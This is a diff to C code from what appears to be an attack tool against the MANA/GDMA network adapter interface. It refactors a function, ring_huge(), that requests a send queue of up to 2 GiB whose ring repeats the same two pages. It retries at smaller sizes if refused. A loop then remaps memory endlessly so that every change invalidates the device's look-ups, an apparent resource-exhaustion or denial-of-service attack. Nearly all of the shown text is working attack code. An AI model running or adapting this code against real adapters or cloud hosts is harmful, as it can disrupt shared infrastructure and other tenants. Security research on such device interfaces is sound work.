@@ -174,15 +174,38 @@ static void maps(const char *socket)
 		remap(&attacker, fd, 1 << 20);
 }
 
-/** lookups() - a ring of 2 GiB of the same two pages, which each change of the map invalidates */
-static void lookups(const char *socket)
+/**
+ * ring_huge() - a send queue whose ring is the same two pages again and again
+ * @ring:	bus address of 1 GiB of memory
+ *
+ * Of 2 GiB, or as much of that as the adapter allows. Return: its number.
+ */
+static uint32_t ring_huge(struct attacker *attacker, uint64_t ring)
 {
-	const uint64_t pages[2] = { 4 * GIB, 4 * GIB };
-	struct mana_create_wq_obj_req request = { .wq_type = GDMA_SQ,
-						  .wq_size = 2 * GIB,
+	const uint64_t pages[2] = { ring, ring };
+	struct mana_create_wq_obj_req request = { .vport = attacker->hwc->vport[0],
+						  .wq_type = GDMA_SQ,
 						  .cq_size = 4096,
 						  .cq_parent_eq_id = GDMA_CQ_NO_EQ };
 	struct mana_create_wq_obj_resp made;
+	int err = -EIO;
+
+	attack_check(hwc_region(attacker->hwc, attacker_alloc(attacker, 4096), 4096,
+				&request.cq_dma_region),
+		     "a ring");
+	for (unsigned int shift = 30; err == -EIO && shift >= 20; shift--) {
+		request.wq_size = UINT32_C(2) << shift;
+		request.wq_dma_region = attacker_region(attacker, pages, 2, shift);
+		err = hwc_ask(attacker->hwc, attacker->hwc->dev, MANA_CREATE_WQ_OBJ, &request,
+			      &made);
+	}
+	attack_check(err, "a large queue");
+	return made.wq_id;
+}
+
+/** lookups() - a large ring, of which each change of the map invalidates all look-ups */
+static void lookups(const char *socket)
+{
 	struct attacker attacker;
 	struct driver_wq wq = { .page = DRIVER_NO_PAGE, .bell = GDMA_DB_SQ, .mask = BATCH - 1 };
 	int fd = memfd_create("ring", MFD_CLOEXEC);
@@ -193,14 +216,7 @@ static void lookups(const char *socket)
 	attack_check(
 		attacker.transport->ops->dma_map(attacker.transport, 4 * GIB, NULL, GIB, fd, 0),
 		"mapping a ring");
-	request.vport = attacker.hwc->vport[0];
-	request.wq_dma_region = attacker_region(&attacker, pages, 2, 30);
-	attack_check(hwc_region(attacker.hwc, attacker_alloc(&attacker, 4096), 4096,
-				&request.cq_dma_region),
-		     "a ring");
-	attack_check(hwc_ask(attacker.hwc, attacker.hwc->dev, MANA_CREATE_WQ_OBJ, &request, &made),
-		     "a queue of 2 GiB");
-	wq.id = made.wq_id;
+	wq.id = ring_huge(&attacker, 4 * GIB);
 	attack_begin();
 	for (;;) {
 		remap(&attacker, piece, 4096);
